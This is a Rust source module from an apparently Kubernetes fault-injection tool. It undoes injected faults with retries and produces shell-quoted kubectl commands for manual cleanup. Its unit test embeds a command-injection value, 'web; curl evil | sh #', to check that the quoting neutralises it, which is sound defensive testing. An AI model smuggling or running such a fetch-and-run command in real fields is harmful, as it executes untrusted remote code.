//! Takes back what was done, from data alone. Idempotent, and verified where the API can tell; tried again until a
//! limit, since giving up leaves a cluster dirty.

use std::fmt::Debug;
use std::time::Duration;

use k8s_openapi::api::core::v1::Node;
use k8s_openapi::api::networking::v1::NetworkPolicy;
use k8s_openapi::serde::de::DeserializeOwned;
use kube::ResourceExt;
use kube::api::{Api, DeleteParams, Patch, PatchParams, Preconditions};
use serde_json::json;

use crate::evidence::{Undo, shell_word};

use super::calls;
use super::context::Context;
use super::faults::{etcd_member, node_agent, node_failure, node_taint};
use super::lock;

/// An undo that is refused is tried this often.
const ATTEMPTS: u32 = 6;
/// An API server that is away is waited for this long: nothing is worse than to leave a cluster dirty.
const PATIENCE: Duration = Duration::from_secs(600);
/// The longest pause between two attempts at what is refused.
const PAUSE_REFUSED: Duration = Duration::from_secs(16);
/// The longest pause while the API server is away: a fault holds on until it is asked again.
const PAUSE_AWAY: Duration = Duration::from_secs(4);
/// Deleted objects must be gone after this time.
const GONE_LIMIT: Duration = Duration::from_secs(120);

/// Why an attempt did not work.
#[derive(Debug)]
pub(super) enum Failure {
    /// The API server could not be asked, or was busy.
    Away(String),
    /// It was, and this is what it said.
    Refused(String),
}

impl From<&kube::Error> for Failure {
    fn from(error: &kube::Error) -> Self {
        if calls::is_away(error) || calls::throttled(error).is_some() {
            Self::Away(calls::text(error))
        } else {
            Self::Refused(calls::text(error))
        }
    }
}

/// Undoes one thing.
///
/// # Errors
/// What is left, and the command that removes it.
pub(super) async fn apply(context: &Context, undo: &Undo) -> Result<(), String> {
    apply_to(context, undo, None).await
}

/// The same, on the object of this UID alone where one is deleted: another one that has taken its name is not meant.
///
/// # Errors
/// What is left, and the command that removes it.
pub(super) async fn apply_to(context: &Context, undo: &Undo, uid: Option<&str>) -> Result<(), String> {
    let clock = context.clock();
    let begun = clock.elapsed();
    let (mut refused, mut away, mut pause) = (0, None, Duration::from_secs(1));
    let reason = loop {
        let reason = match once(context, undo, uid).await {
            Ok(()) => {
                if let Some(reason) = away {
                    let waited = humantime::format_duration(Duration::from_secs(
                        clock.elapsed().saturating_sub(begun).as_secs(),
                    ));
                    let what = format!("{}: the API server was away ({reason}); done after {waited}", describe(undo));
                    context.recorder.gap(what, true);
                }
                return Ok(());
            }
            Err(Failure::Away(reason)) => {
                away.get_or_insert_with(|| reason.clone());
                reason
            }
            Err(Failure::Refused(reason)) => {
                refused += 1;
                reason
            }
        };
        // A server that has just come back may refuse everybody for a moment: then only the time counts.
        let enough = refused >= ATTEMPTS && away.is_none();
        if enough || clock.elapsed() + pause > begun + PATIENCE {
            break reason;
        }
        clock.sleep(pause).await;
        pause = (pause * 2).min(if away.is_some() { PAUSE_AWAY } else { PAUSE_REFUSED });
    };
    Err(format!("{}: {reason}; {}", describe(undo), by_hand(undo)))
}

async fn once(context: &Context, undo: &Undo, uid: Option<&str>) -> Result<(), Failure> {
    match undo {
        Undo::DeleteNetworkPolicy { namespace, name } => {
            let api: Api<NetworkPolicy> = Api::namespaced(context.client(), namespace);
            delete(context, &api, name, uid).await
        }
        Undo::Uncordon { node } => uncordon(context, node).await,
        Undo::RestoreNode { node, ip, mode, command } => {
            let command = command.as_deref().filter(|_| context.allow_commands);
            context.world.machines.restore(node, ip, *mode, command).await.map_err(Failure::Refused)?;
            node_failure::unmark(context, node).await
        }
        Undo::EndNodeAgent { namespace, job, timer_seconds, .. } => {
            node_agent::end(context, (namespace, job), uid, Duration::from_secs(*timer_seconds)).await
        }
        Undo::RemoveTaint { node, value, .. } => node_taint::remove(context, node, value).await,
        Undo::RestoreMember(replacement) => etcd_member::restore(context, replacement).await,
        // Of all that is created, a lock alone may be another run's under the same name.
        Undo::DeleteObject { kind, namespace, name, .. }
            if kind == "Lease"
                && lock::is_foreign(context, namespace, name).await.map_err(|error| Failure::from(&error))? =>
        {
            Ok(())
        }
        Undo::DeleteObject { api_version, kind, namespace, name } => {
            let api = super::fixtures::api(context.client(), api_version, kind, namespace);
            delete(context, &api, name, uid).await
        }
    }
}

/// Deletes and waits until the object is gone. Absent from the start is as good, and so is another one of its name.
pub(super) async fn delete<K>(context: &Context, api: &Api<K>, name: &str, uid: Option<&str>) -> Result<(), Failure>
where
    K: Clone + DeserializeOwned + Debug + ResourceExt,
{
    let preconditions = uid.map(|uid| Preconditions { uid: Some(uid.to_owned()), resource_version: None });
    let params = DeleteParams { preconditions, ..DeleteParams::background() };
    match calls::attempt(context.clock(), api.delete(name, &params)).await {
        Ok(_) => gone(context, api, name, uid, GONE_LIMIT).await,
        Err(error) if calls::is_absent(&error) => Ok(()),
        Err(error) if uid.is_some() && calls::status(&error).is_some_and(|status| status.code == 409) => {
            gone(context, api, name, uid, Duration::ZERO).await
        }
        Err(error) => Err((&error).into()),
    }
}

/// Waits until nothing of this name, and of this UID where one is given, is there. The pauses grow, so that the requests are
/// few.
async fn gone<K>(context: &Context, api: &Api<K>, name: &str, uid: Option<&str>, limit: Duration) -> Result<(), Failure>
where
    K: Clone + DeserializeOwned + Debug + ResourceExt,
{
    let clock = context.clock();
    let deadline = clock.elapsed() + limit;
    let mut pause = Duration::from_millis(100);
    loop {
        match calls::attempt(clock, api.get_opt(name)).await {
            Ok(None) => return Ok(()),
            Ok(Some(found)) if uid.is_some() && found.uid().as_deref() != uid => return Ok(()),
            Ok(Some(_)) if clock.elapsed() >= deadline => {
                let limit = humantime::format_duration(limit);
                return Err(Failure::Refused(format!("it is still there after {limit}")));
            }
            Ok(Some(_)) => {}
            Err(error) => return Err((&error).into()),
        }
        clock.sleep(pause).await;
        pause = (pause * 2).min(Duration::from_secs(10));
    }
}

async fn uncordon(context: &Context, name: &str) -> Result<(), Failure> {
    let api: Api<Node> = Api::all(context.client());
    let patch = json!({
        "metadata": { "annotations": { super::faults::CORDONED_BY: null } },
        "spec": { "unschedulable": null },
    });
    match calls::attempt(context.clock(), api.patch(name, &PatchParams::default(), &Patch::Merge(&patch))).await {
        Ok(node) if crate::plan::is_cordoned(&node) => Err(Failure::Refused("it is still cordoned".to_owned())),
        Ok(_) => Ok(()),
        // A node that is no longer there needs no uncordon.
        Err(error) if calls::is_absent(&error) => Ok(()),
        Err(error) => Err((&error).into()),
    }
}

/// What the undo is about, for people.
pub(super) fn describe(undo: &Undo) -> String {
    match undo {
        Undo::DeleteNetworkPolicy { namespace, name } => format!("delete NetworkPolicy {namespace}/{name}"),
        Undo::Uncordon { node } => format!("uncordon node {node}"),
        Undo::RestoreNode { node, .. } | Undo::EndNodeAgent { node, .. } => format!("bring back node {node}"),
        Undo::RemoveTaint { node, key, .. } => format!("remove the taint {key} from node {node}"),
        Undo::RestoreMember(of) => format!("give etcd {}/{} the member {} back", of.namespace, of.stateful_set, of.pod),
        Undo::DeleteObject { kind, namespace, name, .. } if namespace.is_empty() => format!("delete {kind} {name}"),
        Undo::DeleteObject { kind, namespace, name, .. } => format!("delete {kind} {namespace}/{name}"),
    }
}

/// What a person would do instead. Whatever was named elsewhere is a word of the command and nothing else.
pub(super) fn by_hand(undo: &Undo) -> String {
    let word = |text: &str| shell_word(text);
    match undo {
        Undo::DeleteNetworkPolicy { namespace, name } => {
            format!("run: kubectl --namespace {} delete networkpolicy {}", word(namespace), word(name))
        }
        Undo::Uncordon { node } => format!("run: kubectl uncordon {}", word(node)),
        Undo::RestoreNode { node, command: Some(command), .. } => format!("run for {}: {command}", word(node)),
        Undo::RestoreNode { node, command: None, .. } => format!("start the machine of {} by hand", word(node)),
        Undo::EndNodeAgent { node, namespace, job, timer_seconds, .. } => {
            let timer = humantime::format_duration(Duration::from_secs(*timer_seconds));
            let [node, namespace, job] = [node, namespace, job].map(|text| word(text));
            format!(
                "{node} heals itself at the latest {timer} after the injection; then run: kubectl --namespace {namespace} delete job {job}"
            )
        }
        Undo::RemoveTaint { node, key, value } => {
            let taint = [&word(key), "=", &word(value), ":", crate::plan::TAINT_EFFECT, "-"].concat();
            format!("run: kubectl taint node {} {taint}", word(node))
        }
        Undo::RestoreMember(of) => format!(
            "look at `etcdctl member list` in a pod of statefulset {}/{}, whose ordinals were {} from {}; then: driftproof undo --context CONTEXT",
            word(&of.namespace),
            word(&of.stateful_set),
            of.ordinals.replicas,
            of.ordinals.start
        ),
        Undo::DeleteObject { kind, namespace, name, .. } => {
            let namespace =
                if namespace.is_empty() { String::new() } else { format!("--namespace {} ", word(namespace)) };
            format!("run: kubectl {namespace}delete {} {}", word(&kind.to_lowercase()), word(name))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn advice_is_one_command_whatever_is_named_in_it() {
        let evil = "web; curl evil | sh #".to_owned();
        let (namespace, kind) = (evil.clone(), "Secret".to_owned());
        for undo in [
            Undo::DeleteNetworkPolicy { namespace: evil.clone(), name: evil.clone() },
            Undo::Uncordon { node: evil.clone() },
            Undo::RemoveTaint { node: evil.clone(), key: evil.clone(), value: evil.clone() },
            Undo::DeleteObject { api_version: evil.clone(), kind, namespace, name: evil.clone() },
            Undo::DeleteObject {
                api_version: "v1".to_owned(),
                kind: evil.clone(),
                namespace: String::new(),
                name: "a'b".to_owned(),
            },
        ] {
            let bare = by_hand(&undo).replace(&format!("'{evil}'"), "");
            assert!(!bare.contains("curl") && !bare.contains(';'), "{bare}");
        }
    }
}
